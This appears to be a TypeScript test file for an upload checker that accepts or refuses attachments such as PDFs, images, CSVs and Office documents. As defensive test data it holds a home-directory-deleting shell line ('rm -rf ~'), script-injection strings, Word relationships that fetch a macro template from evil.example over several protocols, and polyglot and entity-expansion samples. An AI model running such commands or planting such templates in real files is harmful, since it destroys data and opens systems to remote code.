import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import fc from 'fast-check'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { buildZip } from '../../documents/spreadsheet/testing/build-zip.ts'
import { ProblemError } from '../problem.ts'
import { checkContent } from './check-content.ts'
import { JPEG, ooxml, PDF, PNG, zipOf } from './testing/contents.ts'

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'objektiv-content-'))
})
afterAll(() => rm(folder, { recursive: true }))

/** The media type, or code and kind of the refusal. */
async function verdict(name: string, content: Buffer | string): Promise<string> {
  const path = join(folder, 'staged')
  await writeFile(path, content)
  try {
    return await checkContent(path, name)
  } catch (error) {
    if (!(error instanceof ProblemError)) throw error
    const [{ code, params }] = error.problems
    return `${code} ${params?.kind ?? params?.expected}`
  }
}

const utf16 = (text: string) => Buffer.from(`\uFEFF${text}`, 'utf16le')
/** «Школа;балл» as Excel writes CSV in Russia. */
const windows1251 = Buffer.from('d8eaeeebe03be1e0ebeb0d0a313b320d0a', 'hex')

describe('what may be attached', () => {
  it.each([
    ['скан.pdf', PDF, 'application/pdf'],
    ['фото.JPG', JPEG, 'image/jpeg'],
    ['снимок.png', PNG, 'image/png'],
    ['приказ.docx', ooxml('word'), /wordprocessingml.document$/],
    ['свод.xlsx', ooxml('xl'), /spreadsheetml.sheet$/],
    ['отчёт.odt', zipOf({ mimetype: 'application/vnd.oasis.opendocument.text' }), /opendocument.text$/],
    ['список.txt', 'Школа № 1\r\n\tи ещё одна', 'text/plain'],
    ['баллы.csv', windows1251, 'text/csv'],
    ['баллы.csv', utf16('Школа;балл\r\n'), 'text/csv'],
    ['имена.csv', 'name;mark\n<script>alert(1)</script>;5', 'text/csv'],
  ])('%s', async (name, content, expected) => {
    expect(await verdict(name, content)).toMatch(expected)
  })
})

describe('what is not taken', () => {
  const contentTypes = (type: string) =>
    `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override ContentType="${type}"/></Types>`
  it.each([
    ['a program', 'план.pdf', Buffer.from(`MZ${'\0'.repeat(100)}`), 'program'],
    ['a program by its name', 'план.exe', PDF, 'program'],
    ['a script by its name', 'план.bat', 'echo off', 'program'],
    ['a script', 'план.txt', '#!/bin/sh\nrm -rf ~', 'program'],
    ['a program for Linux', 'план.docx', Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), 'program'],
    ['a page', 'план.txt', ' \n<!DOCTYPE html><script>1</script>', 'page'],
    ['a page in two-byte letters', 'план.txt', utf16('<html onload=alert(1)>'), 'page'],
    ['a page by its name', 'план.html', 'hello', 'page'],
    ['a drawing that can hold scripts', 'план.png', '<svg xmlns="http://www.w3.org/2000/svg"/>', 'page'],
    ['a document with macros', 'приказ.docx', ooxml('word', { 'word/vbaProject.bin': 'x' }), 'macros'],
    [
      'a document with macros under its type alone',
      'приказ.docx',
      zipOf({ '[Content_Types].xml': contentTypes('application/vnd.ms-office.vbaProject') }),
      'macros',
    ],
    [
      'a workbook with macro sheets',
      'свод.xlsx',
      ooxml('xl', { 'xl/macrosheets/sheet1.xml': 'x' }),
      'macros',
    ],
    ['a macro document by its name', 'приказ.docm', ooxml('word'), 'macros'],
    [
      'a document that fetches its template',
      'приказ.docx',
      ooxml('word', {
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
      }),
      'macros',
    ],
    [
      'a document with a program in it',
      'приказ.docx',
      ooxml('word', { 'word/embeddings/a.exe': 'MZ' }),
      'program',
    ],
    [
      'a text with macros',
      'отчёт.odt',
      zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'Basic/Standard/m.xml': 'x' }),
      'macros',
    ],
    ['an archive', 'план.docx', zipOf({ 'a.txt': 'x' }), 'archive'],
    ['a Java archive', 'план.docx', zipOf({ 'META-INF/MANIFEST.MF': 'Main-Class: A' }), 'program'],
    ['a damaged document', 'приказ.docx', ooxml('word').subarray(0, 60), 'damaged'],
    [
      'a picture that is an archive too',
      'фото.png',
      Buffer.concat([PNG, zipOf({ 'a.exe': 'MZ' })]),
      'twoInOne',
    ],
    [
      'a PDF that is a document too',
      'скан.pdf',
      Buffer.concat([PDF, ooxml('word', { 'word/vbaProject.bin': 'x' })]),
      'twoInOne',
    ],
    [
      'a document after something else',
      'приказ.docx',
      Buffer.concat([Buffer.from('GIF89a\0'), ooxml('word')]),
      'other',
    ],
    ['an old document', 'приказ.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'oldOffice'],
    [
      'a document under a password',
      'приказ.docx',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(70_000),
        Buffer.from('EncryptedPackage', 'utf16le'),
      ]),
      'protected',
    ],
    ['nobody knows what', 'план.txt', Buffer.from([1, 2, 3, 0, 255]), 'other'],
  ])('%s', async (_, name, content, kind) => {
    expect(await verdict(name, content)).toBe(`file-kind-refused ${kind}`)
  })

  const template = (
    attributes: string,
    list = `<Relationships><Relationship ${attributes}/></Relationships>`,
  ) => ooxml('word', { 'word/_rels/settings.xml.rels': list })
  const TYPE = 'Type="http://x/relationships/attachedTemplate"'
  const REMOTE = `${TYPE} Target="http://evil.example/t.dotm"`
  it.each([
    ['in the order of another program', `Target="HTTPS://evil.example/t.dotm" ${TYPE}`],
    ['in single quotes', REMOTE.replaceAll('"', "'")],
    ['with a letter as its number', `${TYPE} Target="&#x68;ttp://evil.example/t.dotm"`],
    ['on a share', `${TYPE} Target="\\\\evil.example\\t.dotm"`],
    ['on a share, as a file', `${TYPE} Target="file:////evil.example/t.dotm"`],
    ['by another way', `${TYPE} Target="ftp://evil.example/t.dotm"`],
  ])('a template fetched from elsewhere, %s', async (_, attributes) => {
    expect(await verdict('приказ.docx', template(attributes))).toBe('file-kind-refused macros')
  })

  it('a template fetched from elsewhere, in two-byte letters', async () => {
    const list = utf16(`<Relationships><Relationship ${REMOTE}/></Relationships>`)
    const types = '<Types><Override ContentType="wordprocessingml.document.main+xml"/></Types>'
    const parts = [
      { name: '[Content_Types].xml', content: types },
      { name: 'word/_rels/settings.xml.rels', content: list },
    ]
    expect(await verdict('приказ.docx', buildZip(parts))).toBe('file-kind-refused macros')
  })

  it.each(['file:///C:\\Users\\Ann\\Normal.dotm', 'C:\\Normal.dotm', 'Normal.dotm'])(
    'but a template of this machine is: %s',
    async target => {
      expect(await verdict('приказ.docx', template(`${TYPE} Target="${target}"`))).toMatch(/document$/)
    },
  )

  // A pattern that looks ahead from every tag takes minutes for the first of these, and serves nobody meanwhile.
  const filled = (size: number, words: string) => words.repeat(Math.ceil(size / words.length)).slice(0, size)
  it.each([
    ['a megabyte of open tags', filled(2 ** 20, '<Relationship '), 'damaged'],
    ['open tags within the limit', filled(60_000, '<Relationship '), 'damaged'],
    ['tags inside one another', `${filled(60_000, '<Relationship>')}`, 'damaged'],
    ['one tag of attributes', `<Relationship ${filled(60_000, `${TYPE} `)}`, 'damaged'],
    ['entities that unfold', '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>', 'damaged'],
    [
      'whole tags, the last of them remote',
      `<R>${'<Relationship Type="a/attachedTemplate"/>'.repeat(1400)}<Relationship ${REMOTE}/></R>`,
      'macros',
    ],
  ])('a list of templates made to tire: %s', async (_, list, kind) => {
    const started = performance.now()
    expect(await verdict('приказ.docx', template('', list))).toBe(`file-kind-refused ${kind}`)
    expect(performance.now() - started).toBeLessThan(2000)
  })

  it.each([
    ['скан.jpg', PDF, 'pdf'],
    ['скан', PDF, 'pdf'],
    ['свод.docx', ooxml('xl'), 'xlsx'],
    ['баллы.pdf', 'a;b', 'txt'],
    ['баллы.xlsx', windows1251, 'txt'],
  ])('%s whose content says otherwise', async (name, content, expected) => {
    expect(await verdict(name, content)).toBe(`file-extension-differs ${expected}`)
  })

  it('any bytes under any allowed name end in a verdict, never in a fault', async () => {
    const head = fc.constantFrom(
      '',
      '%PDF-1.7',
      'PK\x03\x04',
      '\x89PNG\r\n\x1a\n',
      '\xff\xd8\xff',
      'MZ',
      '<',
      'II*\0',
    )
    await fc.assert(
      fc.asyncProperty(
        head,
        fc.uint8Array({ maxLength: 300 }),
        fc.constantFrom('a.pdf', 'a.docx', 'a.txt'),
        async (start, rest, name) => {
          const content = Buffer.concat([Buffer.from(start, 'latin1'), rest])
          expect(await verdict(name, content)).toMatch(
            /^(file-kind-refused|file-extension-differs|application\/pdf|text\/plain)/,
          )
        },
      ),
      { numRuns: 150 },
    )
  })
})
